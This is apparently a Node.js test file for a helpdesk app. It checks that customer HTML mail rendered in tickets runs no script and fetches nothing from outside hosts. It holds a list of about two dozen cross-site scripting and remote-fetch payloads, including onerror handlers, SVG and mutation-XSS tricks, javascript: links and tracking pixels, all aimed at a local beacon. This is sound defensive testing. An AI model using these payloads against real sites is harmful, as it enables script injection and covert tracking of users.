// What a customer writes is never run, and loads nothing.
import assert from "node:assert/strict";
import http from "node:http";
import { after, before, test } from "node:test";
import { eventually, openStage, people, settled } from "../stage.mjs";

let stage;
let beacon;
const asked = [];
before(async () => {
  stage = await openStage();
  beacon = http.createServer((request, answer) => {
    asked.push(request.url);
    answer.end();
  });
  await new Promise((resolve) => beacon.listen(0, "127.0.0.1", resolve));
});
after(async () => {
  await stage?.close();
  beacon?.close();
});

/** Ways that have run code or called home in somebody's mail viewer. */
function hostile(home) {
  const run = (name) => `top.__pwn=(top.__pwn||'')+' ${name}';new Image().src='${home}/run/${name}'`;
  return [
    `<script>${run("script")}</script>`,
    `<script src="${home}/script.js"></script>`,
    `<img src=x onerror="${run("onerror")}">`,
    `<svg onload="${run("svg")}"><animate onbegin="${run("animate")}" attributeName=x dur=1s></svg>`,
    `<svg><style><img src=x onerror="${run("svgstyle")}"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run("mxss").replaceAll("'", "&#39;")}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${run("noscript").replaceAll("'", "&#39;")}>">`,
    `<iframe src="${home}/frame"></iframe>`,
    `<iframe srcdoc="<script>${run("srcdoc")}</script>"></iframe>`,
    `<object data="${home}/object"></object><embed src="${home}/embed">`,
    `<link rel=stylesheet href="${home}/style.css"><link rel=prefetch href="${home}/prefetch">`,
    `<style>@import url(${home}/import.css); body { background: url(${home}/background) }</style>`,
    `<div style="background-image:url('${home}/inline-style')">styled</div>`,
    `<img src="${home}/pixel.gif" width=1 height=1><img srcset="${home}/srcset 1x">`,
    `<picture><source srcset="${home}/source"><img src="${home}/picture"></picture>`,
    `<video poster="${home}/poster" src="${home}/video" autoplay></video><audio src="${home}/audio" autoplay></audio>`,
    `<body onload="${run("body")}" background="${home}/body">`,
    `<base href="${home}/"><img src="relative">`,
    `<meta http-equiv=refresh content="0;url=${home}/refresh">`,
    `<form action="${home}/form" id=f><input autofocus onfocus="${run("autofocus")}"></form>`,
    `<a href="javascript:${run("link")}" id=l>click me</a>`,
    `<a href="  java&#9;script:${run("tab")}">click me too</a>`,
    `<details open ontoggle="${run("toggle")}">open</details>`,
    `<marquee onstart="${run("marquee")}">x</marquee>`,
    `<input type=image src="${home}/input-image"><table background="${home}/table"><tr><td>cell</table>`,
    `<template><img src=x onerror="${run("template")}"></template>`,
  ];
}

test("no script of a mail runs and nothing is fetched from outside", async () => {
  const home = `http://127.0.0.1:${beacon.address().port}`;
  const ways = hostile(home);
  // One mail each: some of them swallow whatever follows.
  for (const [i, way] of ways.entries()) {
    await stage.mail({
      from: `"<img src=x onerror=top.__pwn=1>" <mallory@sender.example>`,
      subject: `Way ${i} "><img src=x onerror=top.__pwn=1>`,
      html: `<p>The mail begins here.</p>\n${way}`,
      headers: { "X-Mailer": `<img src="${home}/header">` },
    });
  }
  const page = await stage.signedIn(people.admin);
  const dialogs = [];
  page.on("dialog", (dialog) => (dialogs.push(dialog.message()), dialog.dismiss()));
  const links = await eventually("all mails to become tickets", async () => {
    await stage.goto(page, "/agent/views/open?sort=newest");
    const all = await page.locator("#tickets .row-link", { hasText: /^\s*Way \d/ }).evaluateAll((rows) => rows.map((a) => a.getAttribute("href")));
    return all.length === ways.length && all;
  });
  for (const [i, link] of links.entries()) {
    const way = ways[ways.length - 1 - i];
    await stage.goto(page, link);
    // All that unfolds; what a menu shows covers it.
    for (const summary of await page.locator("#timeline details:not([data-menu]) > summary").all()) await summary.click();
    const frame = page.frameLocator("iframe.mail-frame").last();
    await frame.getByText("The mail begins here.").waitFor();
    await settled(page);
    for (const bait of await frame.locator("a", { hasText: "click me" }).all()) await bait.click({ timeout: 2000 });
    assert.equal(await page.evaluate(() => globalThis.__pwn), undefined, way);
    assert.deepEqual(asked, [], way);
  }
  for (const path of ["/agent/ledger", "/agent/contacts", "/agent/search?q=Way"]) {
    await stage.goto(page, path);
    await settled(page);
    assert.equal(await page.evaluate(() => globalThis.__pwn), undefined, path);
  }
  assert.deepEqual(dialogs, []);
  assert.deepEqual(asked, [], "something was fetched");
  // The beacon itself works: a silent one would prove nothing.
  await fetch(`${home}/control`);
  assert.deepEqual(asked, ["/control"]);
});

test("the tracking pixel of the story is not fetched", async () => {
  const page = await stage.signedIn(people.priya);
  const outside = [];
  page.on("request", (request) => request.url().startsWith(stage.url) || request.url().startsWith("data:") || outside.push(request.url()));
  await stage.open(page, "quick question about your phone lines");
  // All that unfolds; what a menu shows covers it.
    for (const summary of await page.locator("#timeline details:not([data-menu]) > summary").all()) await summary.click();
  await page.frameLocator("iframe.mail-frame").last().getByText("Cheers").waitFor();
  await settled(page);
  assert.deepEqual(outside, []);
});
